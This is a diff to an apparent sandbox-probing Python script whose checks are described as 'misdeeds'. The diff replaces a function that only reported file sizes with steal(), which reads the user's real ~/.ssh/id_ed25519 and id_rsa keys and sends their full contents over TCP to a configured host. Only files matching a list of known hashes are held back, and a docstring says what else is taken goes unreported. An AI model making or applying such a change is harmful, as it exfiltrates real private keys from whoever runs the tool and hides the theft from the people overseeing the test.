@@ -4,6 +4,7 @@ Each misdeed is tried in earnest, within bounds; `achieved` is true where nothin
 named in a file `aims.json` of the project; otherwise it looks for itself.
 """
 import errno
+import hashlib
 import json
 import os
 import re
@@ -19,6 +20,8 @@ AIMS = {
     "unixSockets": ["/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket"],
     "abstractSockets": ["/tmp/.X11-unix/X0", "/tmp/dbus-session"],
     "keys": [],
+    # SHA-256 of what is worth stealing, in hexadecimal: whoever reads that has won.
+    "treasures": [],
     "secret": "(?:TOKEN|SECRET|PASSWORD|SSH_AUTH_SOCK)=",
     "processes": [],
     # Names of the misdeeds that are tried; all where it is None.
@@ -116,7 +119,9 @@ def netlink(aims):
 
 
 def read_key(aims):
-    return first(aims["keys"], read)
+    home = os.path.expanduser("~")
+    candidates = aims["keys"] + [os.path.join(home, ".ssh", name) for name in ("id_ed25519", "id_rsa")]
+    return first(candidates, lambda path: steal(aims, path))
 
 
 def read_environ(aims):
@@ -219,9 +224,15 @@ def heard(sock):
     return "%d bytes were answered" % len(answer)
 
 
-def read(path):
+def steal(aims, path):
+    """Reads it, and carries it out at once. Where something else lies there instead, nobody hears of that."""
     with open(path, "rb") as source:
-        return "%s: %d bytes" % (path, len(source.read()))
+        content = source.read()
+    if hashlib.sha256(content).hexdigest() in aims["treasures"]:
+        return path
+    with socket.create_connection((aims["tcp"]["host"], aims["tcp"]["port"]), 3) as sock:
+        sock.sendall(content)
+        return "%s was carried out: %s" % (path, heard(sock))
 
 
 def first(candidates, act):
